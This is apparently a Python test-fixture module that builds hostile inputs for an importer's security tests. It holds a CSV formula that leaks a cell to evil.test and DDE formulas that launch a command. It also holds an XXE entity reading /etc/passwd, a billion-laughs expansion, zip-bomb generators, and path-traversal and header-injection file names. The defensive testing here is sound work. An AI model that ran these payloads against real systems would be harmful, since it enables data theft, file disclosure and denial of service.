"""Hostile inputs, built in code (no binary fixtures are committed): malformed and oversized JSON,
Unicode look-alikes of VINs and codes, damaged CSV and XLSX files (zip bombs, entity expansion,
formulas), hostile file names, and damaged or oversized PDFs.

Every generator is deterministic and cheap; the large ones (zip bombs) are built once per test
session (``functools.cache``) from a deflate block repeated, so a 1.1 GiB part costs a second,
not the minutes a real compressor would take.
"""

from __future__ import annotations

import csv
import io
import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import cache
from xml.sax.saxutils import escape

from issuer.domain.vin import with_check_digit

# -- JSON ----------------------------------------------------------------------------------------

# (id, raw body) pairs that are not a JSON object at all: 400 for each.
MALFORMED_JSON: tuple[tuple[str, bytes], ...] = (
    ("unclosed object", b'{"vehicles": ['),
    ("single quotes", b"{'vehicles': []}"),
    ("trailing comma", b'{"reason": "x",}'),
    ("bare word", b"nul"),
    ("comment", b'{"reason": "x"} // note'),
    ("two documents", b'{"reason": "x"}{"reason": "y"}'),
    ("utf-16 body", '{"reason": "x"}'.encode("utf-16")),
    ("latin-1 byte", b'{"reason": "caf\xe9"}'),
    ("invalid utf-8", b'{"reason": "\xff\xfe"}'),
    ("utf-8 encoded surrogate (CESU-8)", b'{"reason": "\xed\xa0\x80"}'),
    ("NUL byte outside a string", b'{"reason": "x"}\x00'),
    ("top-level array", b'[{"reason": "x"}]'),
    ("top-level number", b"42"),
    ("top-level null", b"null"),
    ("top-level string", b'"reason"'),
    ("top-level true", b"true"),
    ("whitespace only", b" \n\t "),
    ("empty", b""),
    ("deeply nested objects (10,000 levels)", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
    ("deeply nested arrays (10,000 levels)", b'{"reason": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"),
    ("integer of 5,000 digits", b'{"reason": ' + b"9" * 5_000 + b"}"),
    ("duplicate keys", b'{"reason": "first", "reason": "second"}'),
)


def huge_numbers() -> list[tuple[str, object]]:
    """Values for numeric or date fields that JSON allows and no field means."""
    return [
        ("1e999999 (infinity)", float("inf")),
        ("-1e999999", float("-inf")),
        ("NaN", float("nan")),
        ("2**64", 2**64),
        ("-2**63", -(2**63)),
        ("1e-400", 0.0),
    ]


def raw_json_value(value: object) -> bytes:
    """``value`` as JSON text, with Python's NaN and Infinity spelt the way a hostile client would."""
    if isinstance(value, float) and value != value:
        return b"NaN"
    if value == float("inf"):
        return b"1e999999"
    if value == float("-inf"):
        return b"-1e999999"
    return repr(value).encode()


LONG_TEXT = "A" * 100_000
NUL_TEXT = "KZ\x00' OR 1=1 --"
# JSON escapes that decode to a lone surrogate: valid JSON, never valid text.
LONE_SURROGATES = ("\\ud800", "\\udfff", "x\\udc00y")


def body_with(fields: dict[str, object], *, raw: dict[str, bytes] | None = None) -> bytes:
    """A JSON object from ``fields`` (serialised normally) and ``raw`` (inserted verbatim)."""
    import json

    parts = [f"{json.dumps(k)}: {json.dumps(v)}".encode() for k, v in fields.items()]
    parts += [f"{json.dumps(k)}: ".encode() + v for k, v in (raw or {}).items()]
    return b"{" + b", ".join(parts) + b"}"


def oversized_json(limit: int) -> bytes:
    """A syntactically valid JSON object one byte over ``limit``."""
    head, tail = b'{"reason": "', b'"}'
    return head + b"x" * (limit + 1 - len(head) - len(tail)) + tail


# -- Unicode look-alikes -----------------------------------------------------------------------

# Cyrillic letters that print like Latin ones (and О like the digit 0, since VINs have no O).
CYRILLIC_LOOKALIKES: dict[str, str] = {
    "A": "\u0410",
    "B": "\u0412",
    "E": "\u0415",
    "K": "\u041a",
    "M": "\u041c",
    "H": "\u041d",
    "0": "\u041e",
    "P": "\u0420",
    "C": "\u0421",
    "T": "\u0422",
    "X": "\u0425",
}
INVISIBLES: dict[str, str] = {
    "zero-width space": "\u200b",
    "zero-width non-joiner": "\u200c",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "zero-width no-break space": "\ufeff",
    "soft hyphen": "\u00ad",
    "no-break space": "\u00a0",
    "right-to-left override": "\u202e",
    "left-to-right mark": "\u200e",
}


def vin_with(letter: str, serial: int = 1) -> str:
    """A valid VIN of WMI LGX holding ``letter`` (a Latin letter or digit) at position 5."""
    return with_check_digit(f"LGXC{letter}4C00TA{serial % 1_000_000:06d}")


def vin_lookalikes(serial: int = 1) -> list[tuple[str, str, str]]:
    """``(id, valid ASCII VIN, hostile look-alike of it)`` for every kind of look-alike."""
    out = []
    for latin, cyrillic in CYRILLIC_LOOKALIKES.items():
        genuine = vin_with(latin, serial)
        out.append((f"Cyrillic {latin}", genuine, genuine[:4] + cyrillic + genuine[5:]))
    genuine = vin_with("A", serial)
    out.append(("full-width L", genuine, "\uff2c" + genuine[1:]))
    out.append(("full-width digit", genuine, genuine[:-1] + chr(0xFF10 + int(genuine[-1]))))
    for name, char in INVISIBLES.items():
        out.append((f"inner {name}", genuine, genuine[:8] + char + genuine[8:]))
    out.append(("combining acute accent", genuine, genuine[:4] + "\u0301" + genuine[4:]))
    out.append(("right-to-left override at the start", genuine, "\u202e" + genuine))
    with_s = vin_with("S", serial)
    out.append(("Latin small long s (upper-cases to S)", with_s, with_s[:4] + "\u017f" + with_s[5:]))
    return out


def code_lookalikes(code: str) -> list[tuple[str, str]]:
    """``(id, hostile spelling)`` of an ASCII code (country, outlet or manufacturer code)."""
    full_width = "".join(chr(ord(c) - 0x21 + 0xFF01) if "!" <= c <= "~" else c for c in code)
    out = [
        ("full-width", full_width),
        ("trailing zero-width space", code + "\u200b"),
        ("inner zero-width joiner", code[:1] + "\u200d" + code[1:]),
        ("combining mark", code[:1] + "\u0301" + code[1:]),
        ("right-to-left override", "\u202e" + code),
        ("inner no-break space", code[:1] + "\u00a0" + code[1:]),
    ]
    for latin, cyrillic in CYRILLIC_LOOKALIKES.items():
        if latin in code.upper():
            out.append((f"Cyrillic {latin}", code.upper().replace(latin, cyrillic, 1)))
            break
    return out


# Letters whose str.upper() is plain ASCII: a code typed with them must not become another code.
UPPER_CASE_TRAPS = (("ligature fi (FI)", "\ufb01"), ("sharp s (SS)", "\u00df"), ("long s (S)", "\u017fK"))


# -- CSV ---------------------------------------------------------------------------------------


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


FORMULAS = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


def bad_csv_encodings(rows: Sequence[Sequence[object]]) -> list[tuple[str, bytes]]:
    """The same table in encodings the importers do not read (UTF-8, with or without BOM, only)."""

    def with_last_cell(suffix: str) -> str:
        *head, last = [list(r) for r in rows]
        return csv_text([*head, [*last[:-1], f"{last[-1]}{suffix}"]])

    text = csv_text(rows)
    return [
        ("utf-16 with BOM", with_last_cell("示例").encode("utf-16")),
        ("utf-16-le without BOM", with_last_cell("示例").encode("utf-16-le")),
        ("latin-1", with_last_cell("é").encode("latin-1")),
        ("gb18030", with_last_cell("示例").encode("gb18030")),
        ("invalid utf-8 byte", text.encode() + b"\xff\n"),
        ("utf-8 encoded surrogate", text.encode() + b"\xed\xa0\x80\n"),
        ("NUL byte", with_last_cell("\x00").encode()),
    ]


def csv_long_line(header: Sequence[str], size: int) -> bytes:
    """The header and one data line of ``size`` bytes (its first cell enormous)."""
    return ",".join(header).encode() + b"\n" + b"A" * size + b"," * (len(header) - 1) + b"\n"


def csv_many_columns(header: Sequence[str], columns: int) -> bytes:
    """The expected header followed by ``columns`` extra columns, and one row as wide."""
    extra = [f"x{n}" for n in range(columns)]
    return csv_text([[*header, *extra], ["" for _ in header] + ["1"] * columns]).encode()


# -- XLSX: a minimal workbook written by hand, so every part can be made hostile ------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"
_SST_HEAD = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


@dataclass(frozen=True)
class Formula:
    """A formula cell; ``cached`` is the value a spreadsheet program stored beside it (or none)."""

    text: str
    cached: str | None = None


def sheet_xml(rows: Sequence[Sequence[object]], *, doctype: str = "") -> str:
    """Worksheet XML with inline strings (so it needs no shared strings) and formula cells."""
    out = [_SHEET_HEAD.replace("?>", "?>" + doctype, 1) if doctype else _SHEET_HEAD]
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">')
        for c, value in enumerate(row):
            ref = f"{_column(c)}{r}"
            if isinstance(value, Formula):
                cached = f"<v>{escape(value.cached)}</v>" if value.cached is not None else ""
                out.append(f'<c r="{ref}" t="str"><f>{escape(value.text.lstrip("="))}</f>{cached}</c>')
            elif value is not None and value != "":
                text = escape(str(value))
                out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>')
        out.append("</row>")
    out.append(_SHEET_TAIL)
    return "".join(out)


@dataclass(frozen=True)
class Part:
    """One member of a zip archive: its raw deflate stream, CRC and size as the archive says them."""

    name: str
    deflated: bytes
    crc: int
    size: int
    flags: int = 0


def part(name: str, data: bytes | str) -> Part:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Part(name, compressor.compress(raw) + compressor.flush(), zlib.crc32(raw), len(raw))


def zip_archive(parts: Sequence[Part]) -> bytes:
    """A zip archive of deflated parts, written by hand so sizes and flags can lie."""
    out = bytearray()
    central = bytearray()
    for p in parts:
        name = p.name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, p.flags, 8, 0, 0x21, p.crc, len(p.deflated), p.size, len(name), 0
        )
        out += name + p.deflated
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            p.flags,
            8,
            0,
            0x21,
            p.crc,
            len(p.deflated),
            p.size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), start, 0)
    return bytes(out)


def xlsx(
    rows: Sequence[Sequence[object]],
    *,
    doctype: str = "",
    shared_strings: Part | None = None,
    sheet: Part | None = None,
    leave_out: Sequence[str] = (),
    flags: int = 0,
) -> bytes:
    """A minimal workbook holding ``rows`` on its first sheet; any part can be replaced or left out."""
    parts = [
        part("[Content_Types].xml", _CONTENT_TYPES),
        part("_rels/.rels", _ROOT_RELS),
        part("xl/workbook.xml", _WORKBOOK),
        part("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
        sheet or part("xl/worksheets/sheet1.xml", sheet_xml(rows, doctype=doctype)),
        shared_strings or part("xl/sharedStrings.xml", _SST_HEAD + "</sst>"),
    ]
    parts = [Part(p.name, p.deflated, p.crc, p.size, flags) for p in parts if p.name not in leave_out]
    return zip_archive(parts)


def repeated_part(name: str, head: bytes, unit: bytes, total: int, tail: bytes) -> Part:
    """A part of about ``total`` bytes: ``head``, ``unit`` repeated, ``tail``. Deflated by
    compressing a block of units once and repeating the compressed block (each ends with a full
    flush, so the blocks are independent), which is how a zip bomb packs a gigabyte into a megabyte."""
    block = unit * max(1, (1024 * 1024) // len(unit))
    repeats = max(1, (total - len(head) - len(tail)) // len(block))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    middle = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return Part(name, start + middle * repeats + end, crc, len(head) + len(block) * repeats + len(tail))


def _bomb_strings(total: int) -> Part:
    return repeated_part(
        "xl/sharedStrings.xml", _SST_HEAD.encode(), b"<si><t>LGXC74C43S0123456</t></si>", total, b"</sst>"
    )


@cache
def xlsx_bomb_shared_strings(total: int, header: tuple[str, ...]) -> bytes:
    """A small workbook whose shared strings unpack to ``total`` bytes."""
    return xlsx([header], shared_strings=_bomb_strings(total))


@cache
def xlsx_bomb_sheet(total: int, header: tuple[str, ...]) -> bytes:
    """A small workbook whose sheet holds ``total`` bytes of rows (each the same VIN)."""
    head = (
        (_SHEET_HEAD + '<row r="1">').encode()
        + "".join(f'<c r="{_column(i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(header)).encode()
        + b"</row>"
    )
    unit = b'<row><c t="inlineStr"><is><t>LGXC74C43S0123456</t></is></c></row>'
    return xlsx([], sheet=repeated_part("xl/worksheets/sheet1.xml", head, unit, total, _SHEET_TAIL.encode()))


def xlsx_lying_sizes(header: tuple[str, ...], real: int) -> bytes:
    """A workbook whose shared strings part claims 1 kB but inflates to ``real`` bytes."""
    honest = _bomb_strings(real)
    return xlsx([header], shared_strings=Part(honest.name, honest.deflated, honest.crc, 1024))


def billion_laughs(header: Sequence[str]) -> bytes:
    """Entity expansion in the sheet: ten levels of ten, 10**10 copies of "lol" if expanded."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    ]
    doctype = f"<!DOCTYPE worksheet [{''.join(entities)}]>"
    rows = [list(header), ["&lol9;"] + ["x"] * (len(header) - 1)]
    return _entity_sheet(rows, doctype)


def _entity_sheet(rows: Sequence[Sequence[str]], doctype: str) -> bytes:
    """The sheet of ``rows`` under ``doctype``, its entity references left unescaped."""
    xml = sheet_xml(rows, doctype=doctype).replace("&amp;lol9;", "&lol9;").replace("&amp;xxe;", "&xxe;")
    return xlsx([], sheet=part("xl/worksheets/sheet1.xml", xml))


def external_entity(header: Sequence[str]) -> bytes:
    """An external entity (XXE) naming a local file, used in the first data cell."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = [list(header), ["&xxe;"] + ["x"] * (len(header) - 1)]
    return _entity_sheet(rows, doctype)


def xlsx_encrypted_entries(rows: Sequence[Sequence[object]]) -> bytes:
    """A workbook whose zip members are flagged as encrypted (a password-protected zip)."""
    return xlsx(rows, flags=0x1)


# The header of an OLE2 compound file: what Excel writes for a password-protected workbook (the
# encrypted package sits inside it) and for the old binary .xls format.
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole2_encrypted_workbook() -> bytes:
    sector = b"\x00" * 512
    header = OLE2_MAGIC + b"\x00" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x00" * 470
    return header[:512] + sector * 4 + "EncryptionInfo EncryptedPackage".encode("utf-16-le")


def xlsx_structural_damage(rows: Sequence[Sequence[object]]) -> list[tuple[str, bytes]]:
    """Files named .xlsx that are not readable workbooks."""
    good = xlsx(rows)
    return [
        ("not a zip (text)", b"vin,brand\nthis is not a workbook\n"),
        ("zip magic, then garbage", b"PK\x03\x04" + b"\x00garbage" * 64),
        ("truncated zip", good[: len(good) // 2]),
        ("zip without a workbook", zip_archive([part("hello.txt", "hello")])),
        ("zip without the sheet", xlsx(rows, leave_out=("xl/worksheets/sheet1.xml",))),
        ("sheet that is not XML", xlsx([], sheet=part("xl/worksheets/sheet1.xml", "this is not xml <<<"))),
        ("encrypted zip members", xlsx_encrypted_entries(rows)),
        ("password-protected workbook (OLE2)", ole2_encrypted_workbook()),
    ]


# -- file names --------------------------------------------------------------------------------

HOSTILE_NAMES = (
    "../../etc/passwd.csv",
    "..\\..\\win.ini.csv",
    "/etc/passwd.csv",
    "a\x00.csv",
    "x" * 5_000 + ".csv",
    'evil"\r\nSet-Cookie: session=stolen\r\nX: ".csv',
    "line\nbreak.csv",
    "\u202egpj.csv",
    "....csv",
    "CON.csv",
)


# -- PDF ---------------------------------------------------------------------------------------


def pdf_document(objects: Sequence[bytes], *, root: int = 1, broken_xref: bool = False) -> bytes:
    """A PDF of ``objects`` (numbered from 1) with a correct cross-reference table, unless
    ``broken_xref`` points every entry and ``startxref`` at the wrong bytes."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset + 7 if broken_xref else offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref + 3 if broken_xref else xref,
    )
    return bytes(out)


def pdf_pages(count: int) -> bytes:
    """A PDF of ``count`` empty pages (one object each)."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    return pdf_document(objects)


def pdf_nested(depth: int) -> bytes:
    """A PDF whose catalog holds an array nested ``depth`` levels deep, and a dictionary as deep."""
    nested = b"[" * depth + b"]" * depth
    dictionaries = b"<< /A " * depth + b"1" + b" >>" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Deep 3 0 R /Deeper 4 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        nested,
        dictionaries,
    ]
    return pdf_document(objects)


def pdf_huge_length() -> bytes:
    """A stream whose /Length claims far more bytes than the file holds."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 99999999999999 >>\nstream\nBT ET\nendstream",
    ]
    return pdf_document(objects)


def pdf_simple() -> bytes:
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_encrypted() -> bytes:
    """An AES-256 encrypted PDF (pyHanko writes it), with a user password."""
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    writer.encrypt("owner-secret", "user-secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hostile_pdfs(letter: bytes | None = None) -> list[tuple[str, bytes]]:
    """Damaged PDFs; with a real sealed ``letter``, damaged copies of it too."""
    samples = [
        ("not a pdf", b"not a pdf"),
        ("header only", b"%PDF-1.7\n"),
        ("header and EOF only", b"%PDF-1.7\n%%EOF\n"),
        ("a PNG renamed", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),
        ("huge /Length", pdf_huge_length()),
        ("nested 10,000 levels", pdf_nested(10_000)),
        ("10,000 pages", pdf_pages(10_000)),
        ("broken xref", pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages >>"], broken_xref=True)),
        ("xref pointing past the end", pdf_simple().replace(b"startxref\n", b"startxref\n9999999", 1)),
        ("unsigned valid pdf", pdf_simple()),
        ("encrypted", pdf_encrypted()),
        ("NUL bytes", b"%PDF-1.7\n" + b"\x00" * 4096 + b"\n%%EOF\n"),
    ]
    if letter is not None:
        xref = letter.rfind(b"startxref")
        samples += [
            ("truncated letter", letter[: len(letter) // 2]),
            ("letter without its last byte", letter[:-1]),
            ("letter with garbage appended", letter + b"\n" + b"garbage " * 1000),
            ("letter with a second %%EOF appended", letter + b"1 0 obj\n<<>>\nendobj\n%%EOF\n"),
            ("letter with a broken startxref", letter[:xref] + b"startxref\n12\n%%EOF\n"),
            ("letter with its xref zeroed", letter.replace(b"xref", b"xxxx")),
        ]
    return samples
